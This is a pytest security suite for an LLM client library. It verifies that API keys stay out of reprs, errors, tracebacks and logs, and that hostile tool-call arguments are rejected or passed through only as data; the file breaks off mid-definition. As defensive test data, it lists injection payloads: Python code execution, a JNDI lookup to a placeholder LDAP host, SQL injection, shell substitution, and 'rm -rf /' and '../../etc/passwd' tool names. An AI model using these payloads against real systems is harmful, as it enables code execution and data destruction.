"""Security (reliability issue): API keys never leak, and hostile tool arguments never run.

1. Secrets: a distinctive key (`KEY`) is given to every provider class; it must appear in no
   `repr`/`str` of providers, transports, models, responses (stream and non-stream, before and
   after consumption, after a failure), errors (HTTP errors whose body echoes the key,
   transport errors, `vars()` and cause chains), the httpx requests our code builds, nor in
   any log record of `ferriscope`, `httpx`, `httpcore` or the root logger at DEBUG. Every
   test also checks that the key really was sent, so a test cannot pass vacuously.
2. Hostile tool-call arguments (a model is untrusted input): invalid JSON, non-object JSON,
   unknown fields, wrong types, huge strings and numbers, 100,000 nested brackets, and
   arguments that look like Python code end as a clean `ToolOutput(error=ToolExecutionError)`
   before the tool's code runs, or reach the tool as plain validated data; nothing is ever
   evaluated and no exception escapes `execute`. Checked through every toolkit kind and
   through `execute_tools()` on responses streamed from a hostile loopback server.

Library gaps found are kept as strict xfails, each naming the fix.
"""

from __future__ import annotations

import asyncio
import json
import logging
import socket
import subprocess
import sys
import textwrap
import traceback
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pydantic
import pytest

from ferriscope import llm
from ferriscope.llm.providers.registry import provider_class
from ferriscope.testing import (
    Fault,
    RecordedResponse,
    ReplayServer,
    ReplayTransport,
)
from ferriscope.testing.synth import Reply, SynthToolCall, stream_for

KEY = "sk-SECRET-abc123"
"""The API key of every provider here; no output may ever contain it."""

# ---- providers -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    provider: str
    """The id given to `llm.register_provider`."""
    scope: str
    model_id: str
    env_var: str
    """Where the provider reads its key from when none is passed."""

    def __str__(self) -> str:
        return f"{self.provider}:{self.model_id}"


CASES = [
    Case("openai", "openai/", "openai/gpt-4o", "OPENAI_API_KEY"),
    Case("openai", "openai/", "openai/gpt-4o:completions", "OPENAI_API_KEY"),
    Case("openai:completions", "openai/", "openai/gpt-4o", "OPENAI_API_KEY"),
    Case("openai:responses", "openai/", "openai/gpt-4o", "OPENAI_API_KEY"),
    Case("anthropic", "anthropic/", "anthropic/claude-sonnet-4-5", "ANTHROPIC_API_KEY"),
    Case(
        "anthropic-beta", "anthropic-beta/", "anthropic-beta/claude-sonnet-4-5", "ANTHROPIC_API_KEY"
    ),
    Case("google", "google/", "google/gemini-2.5-flash", "GOOGLE_API_KEY"),
    Case("ollama", "ollama/", "ollama/llama3.2", "OLLAMA_API_KEY"),
    Case("together", "meta-llama/", "meta-llama/Llama-3.3-70B-Instruct-Turbo", "TOGETHER_API_KEY"),
    Case("openrouter", "openrouter/", "openrouter/openai/gpt-4o", "OPENROUTER_API_KEY"),
    Case("xai", "xai/", "xai/grok-4", "XAI_API_KEY"),
    Case("mirascope", "openai/", "openai/gpt-4o", "MIRASCOPE_API_KEY"),
    Case("mirascope", "anthropic/", "anthropic/claude-sonnet-4-5", "MIRASCOPE_API_KEY"),
    Case("mirascope", "google/", "google/gemini-2.5-flash", "MIRASCOPE_API_KEY"),
]
CASE_PARAMS = [pytest.param(c, id=str(c)) for c in CASES]
PROVIDER_IDS = sorted({c.provider for c in CASES})
ROUTER_URL = "http://router.invalid/router/v2"
"""The Mirascope router needs some base URL; a ReplayTransport never resolves it."""

REPLY = Reply(
    text=["Hello ", "world"],
    tool_calls=[SynthToolCall("call_1", "lookup", {"q": "x"})],
)


@pytest.fixture(autouse=True)
def no_keys_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """No key from the environment of the test run (the registry: tests/conftest.py)."""
    for case in CASES:
        monkeypatch.delenv(case.env_var, raising=False)
    for var in ("GEMINI_API_KEY", "OPENAI_BASE_URL", "ANTHROPIC_BASE_URL", "OLLAMA_BASE_URL"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.delenv("MIRASCOPE_ROUTER_BASE_URL", raising=False)


def user(text: str) -> Any:
    return llm.messages.user(text)


def encode(case: Case, provider: llm.providers.BaseProvider) -> Any:
    return provider.encode(
        model_id=case.model_id, messages=[user("hi")], toolkit=None, format=None, params={}
    )


def wire_format_of(case: Case, provider: llm.providers.BaseProvider) -> str:
    """The wire format the provider will ask for (so the replay speaks it)."""
    return str(encode(case, provider).wire_format)


def register(
    case: Case,
    *,
    transport: httpx.BaseTransport | None = None,
    base_url: str | None = None,
    hooks: list[Any] | None = None,
) -> llm.providers.BaseProvider:
    options: dict[str, Any] = {}
    if transport is not None:
        event_hooks = {"request": hooks or []}
        options["http_client"] = httpx.Client(transport=transport, event_hooks=event_hooks)
        async_hooks = [_async_hook(h) for h in hooks or []]
        options["async_http_client"] = httpx.AsyncClient(
            transport=transport,  # type: ignore[arg-type]
            event_hooks={"request": async_hooks},
        )
    if base_url is None and case.provider == "mirascope":
        base_url = ROUTER_URL
    return llm.register_provider(
        case.provider,
        scope=case.scope,
        api_key=KEY,
        base_url=base_url,
        max_retries=0,
        **options,
    )


def _async_hook(hook: Any) -> Any:
    async def run(request: httpx.Request) -> None:
        hook(request)

    return run


def key_was_sent(headers: dict[str, str]) -> bool:
    """Whether a request carried the key (bearer, x-api-key or x-goog-api-key)."""
    return any(KEY in value for value in headers.values())


def texts_of(obj: Any) -> list[str]:
    return [repr(obj), str(obj)]


def assert_hidden(*objects: Any) -> None:
    for obj in objects:
        for text in texts_of(obj):
            assert KEY not in text, f"the key leaks through {type(obj).__name__}: {text[:300]}"


def error_texts(error: BaseException) -> Iterator[str]:
    """Everything an error could show: message, repr, args, attributes, body, the whole
    cause/context chain and the attributes of each link."""
    seen: set[int] = set()
    todo: list[BaseException | None] = [error]
    while todo:
        current = todo.pop()
        if current is None or id(current) in seen:
            continue
        seen.add(id(current))
        yield str(current)
        yield repr(current)
        yield repr(current.args)
        yield repr(vars(current))
        yield repr(getattr(current, "body", None))
        yield "".join(traceback.format_exception_only(type(current), current))
        todo += [current.__cause__, current.__context__]


def assert_error_hidden(error: BaseException) -> None:
    for text in error_texts(error):
        assert KEY not in text, f"the key leaks through {type(error).__name__}: {text[:300]}"


# ---- 1a. providers, transports, models -----------------------------------------------------


@pytest.mark.parametrize("provider_id", PROVIDER_IDS)
def test_provider_and_transport_reprs_hide_the_key(provider_id: str) -> None:
    cls = provider_class(provider_id)
    base_url = ROUTER_URL if provider_id == "mirascope" else None
    provider = cls(api_key=KEY, base_url=base_url)
    assert provider.api_key == KEY
    assert_hidden(provider, provider.transport, vars(provider.transport), cls)


@pytest.mark.parametrize("case", CASE_PARAMS)
def test_key_from_environment_stays_hidden(case: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    """Providers that pick the key up from the environment (auto-registration included)."""
    monkeypatch.setenv(case.env_var, KEY)
    base_url = ROUTER_URL if case.provider == "mirascope" else None
    provider = provider_class(case.provider)(base_url=base_url)
    assert provider.api_key == KEY
    assert key_was_sent(provider.http_request(encode(case, provider)).headers)
    assert_hidden(provider, provider.transport)
    if case.provider in ("openai", "anthropic", "google", "xai", "ollama"):
        auto = llm.Model(case.model_id).provider
        assert auto.api_key == KEY
        assert_hidden(auto, auto.transport, llm.Model(case.model_id))


# ---- 1b. responses -------------------------------------------------------------------------


@llm.tool
def lookup(q: str) -> str:
    """Looks something up."""
    return q.upper()


def _assert_response_hidden(response: Any) -> None:
    assert_hidden(response, vars(response), response.messages, getattr(response, "chunks", ()))
    assert_hidden(response.content, response.usage, response.finish_reason)
    assert_hidden(response.model, response.toolkit)
    for message in response.messages:
        assert_hidden(message, getattr(message, "raw_message", None))


@pytest.mark.parametrize("case", CASE_PARAMS)
def test_stream_and_call_responses_hide_the_key(case: Case) -> None:
    transport = ReplayTransport()
    built: list[httpx.Request] = []
    provider = register(case, transport=transport, hooks=[built.append])
    body = stream_for(wire_format_of(case, provider), REPLY)
    for _ in range(3):
        transport.add(RecordedResponse(body))
    model = llm.Model(case.model_id)
    assert_hidden(model, provider, provider.transport, vars(provider.transport))

    stream = model.stream("hello", tools=[lookup])
    _assert_response_hidden(stream)  # before the request is sent
    chunks = stream.chunk_stream()
    next(chunks)
    _assert_response_hidden(stream)  # mid-stream
    for _ in chunks:
        pass
    assert stream.consumed
    _assert_response_hidden(stream)  # consumed
    outputs = stream.execute_tools()
    assert [o.result for o in outputs] == ["X"]
    assert_hidden(outputs)

    response = model.call("hello", tools=[lookup])
    assert response.tool_calls
    _assert_response_hidden(response)

    resumed = stream.resume(outputs)
    resumed.finish()
    _assert_response_hidden(resumed)

    # The key did travel (in its header), and the httpx requests we built hide it.
    assert len(transport.requests) == 3
    assert all(key_was_sent(r.headers) for r in transport.requests)
    assert len(built) == 3
    assert_hidden(*built)
    assert all(KEY not in r.url.query.decode() for r in built)


@pytest.mark.parametrize("case", CASE_PARAMS)
async def test_async_stream_and_call_responses_hide_the_key(case: Case) -> None:
    transport = ReplayTransport()
    provider = register(case, transport=transport)
    body = stream_for(wire_format_of(case, provider), REPLY)
    transport.add(RecordedResponse(body))
    transport.add(RecordedResponse(body))
    model = llm.Model(case.model_id)

    stream = await model.stream_async("hello", tools=[lookup])
    _assert_response_hidden(stream)
    await stream.finish()
    _assert_response_hidden(stream)
    response = await model.call_async("hello", tools=[lookup])
    _assert_response_hidden(response)
    assert all(key_was_sent(r.headers) for r in transport.requests)
    assert len(transport.requests) == 2


# ---- 1c. errors ----------------------------------------------------------------------------


def echo_bodies() -> list[tuple[str, bytes, str]]:
    """Error bodies that echo the key back, as some servers and proxies do: in the message,
    in echoed request headers, in a plain-text page, in Google's list-wrapped form."""
    echoed = {
        "error": {
            "message": f"Incorrect API key provided: {KEY}. You can find your key at ...",
            "type": "invalid_request_error",
            "code": "invalid_api_key",
        },
        "request": {
            "headers": {
                "authorization": f"Bearer {KEY}",
                "x-api-key": KEY,
                "x-goog-api-key": KEY,
            }
        },
    }
    listed = [{"error": {"code": 400, "message": f"API key not valid: {KEY}", "status": "X"}}]
    return [
        ("json", json.dumps(echoed).encode(), "application/json"),
        ("plain", f"401 denied for key={KEY} (Bearer {KEY})".encode(), "text/plain"),
        ("google-list", json.dumps(listed).encode(), "application/json"),
    ]


def echo_response(status: int) -> RecordedResponse:
    _, body, content_type = echo_bodies()[0]
    return RecordedResponse(body, status=status, content_type=content_type)


@pytest.mark.parametrize("status", [400, 401, 403, 429, 500])
@pytest.mark.parametrize("case", CASE_PARAMS)
def test_http_error_echoing_the_key_is_redacted(case: Case, status: int) -> None:
    transport = ReplayTransport()
    register(case, transport=transport)
    model = llm.Model(case.model_id)
    for name, body, content_type in echo_bodies():
        transport.add(RecordedResponse(body, status=status, content_type=content_type))
        stream = model.stream("hello")
        with pytest.raises(llm.APIError) as raised:
            stream.finish()
        error = raised.value
        assert error.status_code == status, name
        assert_error_hidden(error)
        assert "***" in str(error) + repr(error.body), name  # masked, not dropped
        _assert_response_hidden(stream)  # the failed response keeps its error
        with pytest.raises(llm.APIError) as again:
            stream.finish()  # the stored error, raised again
        assert_error_hidden(again.value)

        transport.add(RecordedResponse(body, status=status, content_type=content_type))
        with pytest.raises(llm.APIError) as called:
            model.call("hello")
        assert_error_hidden(called.value)
    assert len(transport.requests) == 2 * len(echo_bodies())
    assert all(key_was_sent(r.headers) for r in transport.requests)


@pytest.mark.parametrize("case", CASE_PARAMS)
async def test_async_http_error_echoing_the_key_is_redacted(case: Case) -> None:
    transport = ReplayTransport()
    register(case, transport=transport)
    _, body, content_type = echo_bodies()[0]
    transport.add(RecordedResponse(body, status=401, content_type=content_type))
    stream = await llm.Model(case.model_id).stream_async("hello")
    with pytest.raises(llm.AuthenticationError) as raised:
        await stream.finish()
    assert_error_hidden(raised.value)
    assert key_was_sent(transport.requests[0].headers)


@pytest.mark.parametrize("case", CASE_PARAMS)
def test_retry_errors_hide_the_key(case: Case) -> None:
    """`RetriesExhausted` quotes its last error and keeps every failure (with its model)."""
    transport = ReplayTransport()
    register(case, transport=transport)
    _, body, content_type = echo_bodies()[0]
    for _ in range(4):
        transport.add(RecordedResponse(body, status=500, content_type=content_type))
    model = llm.retry_model(case.model_id, max_retries=1, initial_delay=0.0)
    assert_hidden(model)
    with pytest.raises(llm.RetriesExhausted) as called:
        model.call("hello")
    stream = model.stream("hello")
    with pytest.raises(llm.RetriesExhausted) as streamed:
        stream.finish()
    for error in (called.value, streamed.value):
        assert len(error.failures) == 2
        assert_error_hidden(error)
        for failure in error.failures:
            assert_hidden(failure)
            assert_error_hidden(failure.exception)
    assert len(transport.requests) == 4
    assert all(key_was_sent(r.headers) for r in transport.requests)


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.mark.parametrize("case", CASE_PARAMS)
def test_transport_errors_hide_the_key(case: Case) -> None:
    # Connection refused.
    base = f"http://127.0.0.1:{_closed_port()}"
    register(case, base_url=base + ("/v1" if case.provider.startswith("openai") else ""))
    with pytest.raises(llm.ConnectionError) as refused:
        llm.Model(case.model_id).call("hello")
    assert_error_hidden(refused.value)
    assert isinstance(refused.value.original_exception, ConnectionRefusedError)
    assert_hidden(vars(refused.value.original_exception))

    # A connection dropped mid-stream (ReplayTransport raises httpx.RemoteProtocolError).
    llm.reset_provider_registry()
    transport = ReplayTransport()
    provider = register(case, transport=transport)
    body = stream_for(wire_format_of(case, provider), REPLY)
    transport.add(RecordedResponse(body), Fault(cut_after=len(body) // 2))
    stream = llm.Model(case.model_id).stream("hello")
    with pytest.raises(llm.ConnectionError) as dropped:
        stream.finish()
    assert_error_hidden(dropped.value)
    _assert_response_hidden(stream)
    assert key_was_sent(transport.requests[0].headers)


def in_stream_error(wire_format: str) -> bytes:
    """An error event inside a 200 stream whose message echoes the key."""
    message = f"Invalid authentication for key {KEY}"
    if wire_format == "anthropic":
        event = {"type": "error", "error": {"type": "authentication_error", "message": message}}
        return f"event: error\ndata: {json.dumps(event)}\n\n".encode()
    if wire_format == "openai-responses":
        event = {"type": "error", "code": "invalid_api_key", "message": message, "param": None}
        return f"event: error\ndata: {json.dumps(event)}\n\n".encode()
    if wire_format == "google":
        event = {"error": {"code": 401, "message": message, "status": "UNAUTHENTICATED"}}
        return f"data: {json.dumps(event)}\r\n\r\n".encode()
    event = {"error": {"message": message, "type": "invalid_request_error"}}
    return f"data: {json.dumps(event)}\n\n".encode()


@pytest.mark.parametrize(
    "case",
    [
        c
        for c in CASE_PARAMS
        if c.values[0].provider in ("openai:completions", "openai:responses", "anthropic", "google")
    ],
)
def test_in_stream_error_echoing_the_key_is_redacted(case: Case) -> None:
    transport = ReplayTransport()
    provider = register(case, transport=transport)
    transport.add(RecordedResponse(in_stream_error(wire_format_of(case, provider))))
    with pytest.raises(llm.APIError) as raised:
        llm.Model(case.model_id).call("hello")
    assert "Invalid authentication" in str(raised.value)
    assert_error_hidden(raised.value)


@pytest.mark.parametrize("case", CASE_PARAMS)
def test_http_request_repr_hides_the_key(case: Case) -> None:
    """Our own request object (headers with the key, body, URL) hides its headers."""
    provider = register(case, transport=ReplayTransport())
    request = provider.http_request(encode(case, provider))
    assert key_was_sent(request.headers)
    assert_hidden(request)


def _failures(case: Case) -> Iterator[llm.Error]:
    """Errors raised through the transport: an HTTP error echoing the key, a refused
    connection, a connection dropped mid-stream over a real socket."""
    # (No local of this frame, which the traceback starts from, may hold the key itself.)
    register(case, transport=ReplayTransport([echo_response(401)]))
    with pytest.raises(llm.AuthenticationError) as http:
        llm.Model(case.model_id).call("hello")
    yield http.value

    llm.reset_provider_registry()
    register(case, base_url=f"http://127.0.0.1:{_closed_port()}")
    with pytest.raises(llm.ConnectionError) as refused:
        llm.Model(case.model_id).call("hello")
    yield refused.value

    llm.reset_provider_registry()
    provider = register(case, transport=ReplayTransport())
    body = stream_for(wire_format_of(case, provider), REPLY)
    with ReplayServer([RecordedResponse(body)], fault=Fault(cut_after=len(body) // 2)) as server:
        llm.reset_provider_registry()
        prefix = "/v1" if case.provider.startswith("openai") else ""
        register(case, base_url=server.url + (prefix if case.provider != "mirascope" else ""))
        with pytest.raises(llm.ConnectionError) as dropped:
            llm.Model(case.model_id).stream("hello").finish()
        assert key_was_sent(server.requests[0].headers)
    yield dropped.value


@pytest.mark.parametrize("case", CASE_PARAMS)
def test_traceback_locals_hide_the_key(case: Case) -> None:
    """Tracebacks rendered with their locals (Sentry, rich, pytest --showlocals) show every
    frame's variables, `Transport.send`'s `request` and httpx's internals included."""
    for index, error in enumerate(_failures(case)):
        rendered = "".join(
            traceback.TracebackException.from_exception(error, capture_locals=True).format()
        )
        if index < 2:  # raised inside the transport (a cut stream is raised by the response)
            assert "request = HTTPRequest(" in rendered  # the locals are really there
        assert KEY not in rendered, type(error).__name__


# ---- 1d. logs ------------------------------------------------------------------------------


LOGGERS = ("ferriscope", "httpx", "httpcore", "")


@pytest.mark.parametrize("http", ["own", "httpx"])
@pytest.mark.parametrize("case", CASE_PARAMS)
def test_debug_logs_never_carry_the_key(
    case: Case, http: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Real sockets (so httpcore logs its connection and request steps) at DEBUG on every
    logger: a success, HTTP errors echoing the key, a refused connection, a ferriscope
    warning. httpx logs one INFO line per request (method, URL, status) and httpcore logs
    `send_request_headers.started request=<Request [b'POST']>`: neither logs header values;
    the own transport logs one line per response (URL without query, status). Both paths
    (`http="httpx"` is the opt-out switch)."""
    for name in LOGGERS:
        caplog.set_level(logging.DEBUG, logger=name or None)
    _, echo, content_type = echo_bodies()[0]
    with ReplayServer(piece_size=256) as server:
        prefix = "/v1" if case.provider.startswith("openai") else ""
        provider = llm.register_provider(
            case.provider,
            scope=case.scope,
            api_key=KEY,
            base_url=server.url + (prefix if case.provider != "mirascope" else "/router/v2"),
            max_retries=0,
            http="httpx" if http == "httpx" else None,
        )
        body = stream_for(wire_format_of(case, provider), REPLY)
        server.add(RecordedResponse(body))
        server.add(RecordedResponse(echo, status=401, content_type=content_type))
        server.add(RecordedResponse(echo, status=500, content_type=content_type))
        model = llm.Model(case.model_id, not_a_real_param=1)  # a ferriscope warning
        model.call("hello", tools=[lookup]).execute_tools()
        for _ in range(2):
            with pytest.raises(llm.APIError) as raised:
                model.call("hello")
            logging.getLogger("ferriscope.test").exception("failed: %r", raised.value)
        assert all(key_was_sent(r.headers) for r in server.requests)
    llm.reset_provider_registry()
    register(case, base_url=f"http://127.0.0.1:{_closed_port()}")
    with pytest.raises(llm.ConnectionError):
        llm.Model(case.model_id).call("hello")

    sources = {record.name.split(".")[0] for record in caplog.records}
    assert ({"ferriscope", "httpx", "httpcore"} if http == "httpx" else {"ferriscope"}) <= sources
    if http == "own":
        assert any(r.name == "ferriscope.transport" for r in caplog.records)
    assert any("Skipping unsupported parameter" in r.getMessage() for r in caplog.records)
    for record in caplog.records:
        message = record.getMessage()
        assert KEY not in message, f"{record.name}: {message[:300]}"
        assert KEY not in repr(record.args)
    assert KEY not in caplog.text


@pytest.mark.parametrize("http", ["own", "httpx"])
async def test_async_debug_logs_never_carry_the_key(
    http: str, caplog: pytest.LogCaptureFixture
) -> None:
    for name in LOGGERS:
        caplog.set_level(logging.DEBUG, logger=name or None)
    body = stream_for("anthropic", REPLY)
    _, echo, content_type = echo_bodies()[0]
    with ReplayServer([RecordedResponse(body)], piece_size=256) as server:
        server.add(RecordedResponse(echo, status=401, content_type=content_type))
        llm.register_provider(
            "anthropic",
            scope="anthropic/",
            api_key=KEY,
            base_url=server.url,
            max_retries=0,
            http="httpx" if http == "httpx" else None,
        )
        model = llm.Model("anthropic/claude-sonnet-4-5")
        response = await model.call_async("hello", tools=[lookup])
        await response.execute_tools()
        with pytest.raises(llm.AuthenticationError):
            await model.call_async("hello")
        assert all(key_was_sent(r.headers) for r in server.requests)
    logger = "httpcore" if http == "httpx" else "ferriscope.transport"
    assert any(r.name.startswith(logger) for r in caplog.records)
    assert KEY not in caplog.text
    assert all(KEY not in repr(r.args) for r in caplog.records)


# ---- 2. hostile tool-call arguments --------------------------------------------------------


MARKER_NAME = "ferriscope-pwned"


@dataclass
class Recorder:
    """What the tools under test were called with (they must not be, for bad arguments)."""

    calls: list[tuple[Any, ...]]


@pytest.fixture
def recorder() -> Recorder:
    return Recorder([])


def make_tools(recorder: Recorder) -> dict[str, Any]:
    @llm.tool
    def record(q: str, n: int = 0) -> str:
        """Records its arguments."""
        recorder.calls.append((q, n))
        return f"ok {len(q)}"

    @llm.tool
    async def arecord(q: str, n: int = 0) -> str:
        """Records its arguments."""
        recorder.calls.append((q, n))
        return f"ok {len(q)}"

    @llm.tool
    def crecord(ctx: llm.Context[str], q: str, n: int = 0) -> str:
        """Records its arguments."""
        recorder.calls.append((ctx.deps, q, n))
        return f"ok {len(q)}"

    return {"sync": record, "async": arecord, "context": crecord}


def execute(kind: str, recorder: Recorder, args: str, name: str | None = None) -> Any:
    """Runs one call through the toolkit kind's `execute`, as `execute_tools()` does."""
    tools = make_tools(recorder)
    tool = tools[kind]
    call = llm.ToolCall(id="call_1", name=tool.name if name is None else name, args=args)
    if kind == "sync":
        return llm.Toolkit([tool]).execute(call)
    if kind == "async":
        return asyncio.run(llm.AsyncToolkit([tool]).execute(call))
    return llm.ContextToolkit([tool]).execute(llm.Context(deps="d"), call)


KINDS = ["sync", "async", "context"]
HUGE = 10 * 1024 * 1024

Expected = type[BaseException] | tuple[type[BaseException], ...]
CALL_ERROR = (TypeError, ValueError)
"""Arguments a call cannot take: today Python's own TypeError when `fn(**kwargs)` is called
(no tool code has run yet); a ValueError if parse_arguments comes to check them itself."""

DEEP_JSON: Expected | None = RecursionError if sys.version_info < (3, 13) else None
"""5000 nested brackets: `json.loads` hits the recursion limit before CPython 3.13; from 3.13
it parses them, and the call (a list is not keyword arguments) or validation refuses them."""

# (id, arguments, expected type of the ToolExecutionError's tool_exception)
REJECTED: list[tuple[str, str, Expected]] = [
    ("invalid-json", "{q: 1}", json.JSONDecodeError),
    ("truncated-json", '{"q": "abc', json.JSONDecodeError),
    ("trailing-garbage", '{"q": "a"} import os', json.JSONDecodeError),
    ("python-literal", "{'q': 'a'}", json.JSONDecodeError),
    ("python-call", "__import__('os').system('true')", json.JSONDecodeError),
    ("array", "[1,2]", CALL_ERROR),
    ("string", '"x"', CALL_ERROR),
    ("null", "null", CALL_ERROR),
    ("number", "1", CALL_ERROR),
    ("bool", "true", CALL_ERROR),
    ("missing-required", "{}", CALL_ERROR),
    ("blank", "   ", CALL_ERROR),  # blank means {}: the required q is missing
    ("unknown-field", '{"q": "a", "evil": 1}', CALL_ERROR),
    ("dunder-field", '{"q": "a", "__class__": "os.system"}', CALL_ERROR),
    ("import-field", '{"__import__": "os", "q": "a"}', CALL_ERROR),
    ("kwargs-field", '{"q": "a", "kwargs": {"n": 1}}', CALL_ERROR),
    ("q-object", '{"q": {"__import__": "os"}}', pydantic.ValidationError),
    ("q-list", '{"q": ["a"]}', pydantic.ValidationError),
    ("q-null", '{"q": null}', pydantic.ValidationError),
    ("q-number", '{"q": 12}', pydantic.ValidationError),
    ("n-word", '{"q": "a", "n": "abc"}', pydantic.ValidationError),
    ("n-code", '{"q": "a", "n": "__import__(\'os\')"}', pydantic.ValidationError),
    ("n-float", '{"q": "a", "n": 1.5}', pydantic.ValidationError),
    ("n-nan", '{"q": "a", "n": NaN}', pydantic.ValidationError),
    ("n-inf", '{"q": "a", "n": 1e400}', pydantic.ValidationError),
    ("n-5000-digits", '{"q": "a", "n": ' + "9" * 5000 + "}", ValueError),
    ("q-deep-500", '{"q": ' + "[" * 500 + "]" * 500 + "}", pydantic.ValidationError),
    ("deep-5000", "[" * 5000 + "]" * 5000, DEEP_JSON or CALL_ERROR),
    (
        "q-deep-5000",
        '{"q": ' + "[" * 5000 + "]" * 5000 + "}",
        DEEP_JSON or pydantic.ValidationError,
    ),
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("args", "expected"), [pytest.param(a, e, id=i) for i, a, e in REJECTED])
def test_hostile_arguments_fail_cleanly_before_the_tool_runs(
    kind: str, args: str, expected: Expected, recorder: Recorder
) -> None:
    output = execute(kind, recorder, args)
    assert recorder.calls == []  # the tool's code never ran
    assert isinstance(output.error, llm.ToolExecutionError)
    assert isinstance(output.error.tool_exception, expected), repr(output.error.tool_exception)
    assert output.result == str(output.error.tool_exception)
    assert len(output.result) < 10_000
    assert output.id == "call_1"


# Arguments that look like code but are valid data: delivered to the tool as plain strings.
AS_DATA = [
    "__import__('os').system('touch /tmp/" + MARKER_NAME + "')",
    "eval(compile('import os', 'x', 'exec'))",
    "{{ config.__class__.__init__.__globals__ }}",
    "${jndi:ldap://example.invalid/a}",
    "'; DROP TABLE users; --",
    "$(touch /tmp/" + MARKER_NAME + ")",
    "\x00\u202e\ud7ff\U0001f600",
    "lambda: exec('import os')",
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", AS_DATA)
def test_code_like_arguments_are_passed_as_data(kind: str, text: str, recorder: Recorder) -> None:
    output = execute(kind, recorder, json.dumps({"q": text, "n": "7"}))
    assert output.error is None, output.result
    assert recorder.calls[-1][-2:] == (text, 7)  # "7" validated (lax) into an int
    assert not Path("/tmp", MARKER_NAME).exists()


@pytest.mark.parametrize("kind", KINDS)
def test_ten_megabyte_arguments(kind: str, recorder: Recorder) -> None:
    huge = "x" * HUGE
    ok = execute(kind, recorder, json.dumps({"q": huge}))
    assert ok.error is None
    assert ok.result == f"ok {HUGE}"
    assert len(recorder.calls) == 1 and len(recorder.calls[0][-2]) == HUGE
    for args, expected in [
        (json.dumps({"q": "a", "n": huge}), pydantic.ValidationError),  # wrong type
        (json.dumps({"q": "a", "evil": huge}), CALL_ERROR),  # unknown field
        (json.dumps({"q": huge, "n": "x"}), pydantic.ValidationError),
        (json.dumps({"q": "a", "n": huge})[:-2], json.JSONDecodeError),  # cut off
    ]:
        failed = execute(kind, recorder, args)
        assert len(recorder.calls) == 1
        assert isinstance(failed.error, llm.ToolExecutionError)
        assert isinstance(failed.error.tool_exception, expected)
        # The error text goes back to the model: it must not repeat the 10 MB.
        assert len(failed.result) < 100_000, (expected, len(failed.result))


@pytest.mark.parametrize("kind", KINDS)
def test_a_ten_megabyte_unknown_argument_name_gives_a_bounded_error(
    kind: str, recorder: Recorder
) -> None:
    output = execute(kind, recorder, json.dumps({"q": "a", "x" * HUGE: 1}))
    assert recorder.calls == []
    assert isinstance(output.error, llm.ToolExecutionError)
    assert len(output.result) < 100_000


@pytest.mark.parametrize("kind", KINDS)
def test_unknown_and_hostile_tool_names(kind: str, recorder: Recorder) -> None:
    for name in ("__import__", "../../etc/passwd", "record; rm -rf /", "", "x" * 100_000):
        output = execute(kind, recorder, '{"q": "a"}', name=name)
        assert isinstance(output.error, llm.ToolNotFoundError)
        assert output.error.tool_name == name
    assert recorder.calls == []


def test_hostile_arguments_on_a_tool_without_parameters(recorder: Recorder) -> None:
    @llm.tool
    def ping() -> str:
        """No arguments."""
        recorder.calls.append(())
        return "pong"

    kit = llm.Toolkit([ping])
    assert kit.execute(llm.ToolCall(id="1", name="ping", args="")).result == "pong"
    assert kit.execute(llm.ToolCall(id="1", name="ping", args="{}")).result == "pong"
    for args in ('{"__import__": "os"}', "[]", '"os"', "{"):
        output = kit.execute(llm.ToolCall(id="1", name="ping", args=args))
        assert isinstance(output.error, llm.ToolExecutionError)
    assert recorder.calls == [(), ()]


# ---- hostile model: tool calls streamed from a loopback server ---------------------------


def completions_tool_stream(name: str, args: str) -> bytes:
    """A Chat Completions stream calling `name` with `args` exactly as given (not JSON-checked),
    the arguments cut into three deltas."""
    head = {"id": "chatcmpl-h", "object": "chat.completion.chunk", "created": 1, "model": "m"}

    def chunk(delta: dict[str, Any], finish: str | None = None) -> str:
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        return f"data: {json.dumps({**head, 'choices': [choice]})}\n\n"

    start = {"index": 0, "id": "call_1", "type": "function"}
    out = [
        chunk({"role": "assistant", "content": ""}),
        chunk({"tool_calls": [{**start, "function": {"name": name, "arguments": ""}}]}),
    ]
    third = max(1, len(args) // 3)
    for piece in (args[:third], args[third : 2 * third], args[2 * third :]):
        out.append(chunk({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}))
    out.append(chunk({}, "tool_calls"))
    out.append("data: [DONE]\n\n")
    return "".join(out).encode()


def anthropic_tool_stream(name: str, args: str) -> bytes:
    """An Anthropic stream calling `name` with `args` as `input_json_delta` pieces."""

    def event(kind: str, **payload: Any) -> str:
        return f"event: {kind}\ndata: {json.dumps({'type': kind, **payload})}\n\n"

    message = {
        "id": "msg_h",
        "type": "message",
        "role": "assistant",
        "model": "m",
        "content": [],
        "stop_reason": None,
        "usage": {"input_tokens": 1, "output_tokens": 1},
    }
    block = {"type": "tool_use", "id": "toolu_1", "name": name, "input": {}}
    third = max(1, len(args) // 3)
    out = [
        event("message_start", message=message),
        event("content_block_start", index=0, content_block=block),
    ]
    for piece in (args[:third], args[third : 2 * third], args[2 * third :]):
        delta = {"type": "input_json_delta", "partial_json": piece}
        out.append(event("content_block_delta", index=0, delta=delta))
    out += [
        event("content_block_stop", index=0),
        event(
            "message_delta",
            delta={"stop_reason": "tool_use", "stop_sequence": None},
            usage={"output_tokens": 5},
        ),
        event("message_stop"),
    ]
    return "".join(out).encode()


@dataclass(frozen=True)
class HostileWire:
    provider: str
    scope: str
    model_id: str
    prefix: str
    body: Any
    refused: frozenset[str] = frozenset()
    """Cases whose arguments the wire's decoder refuses, failing the stream itself with
    `ResponseValidationError`: the Anthropic decoder parses each tool's input (serde_json:
    valid JSON only, depth <= 128, numbers within f64) to rebuild the raw message."""


HOSTILE_WIRES = [
    pytest.param(
        HostileWire(
            "openai:completions", "openai/", "openai/gpt-4o", "/v1", completions_tool_stream
        ),
        id="completions",
    ),
    pytest.param(
        HostileWire(
            "anthropic",
            "anthropic/",
            "anthropic/claude-sonnet-4-5",
            "",
            anthropic_tool_stream,
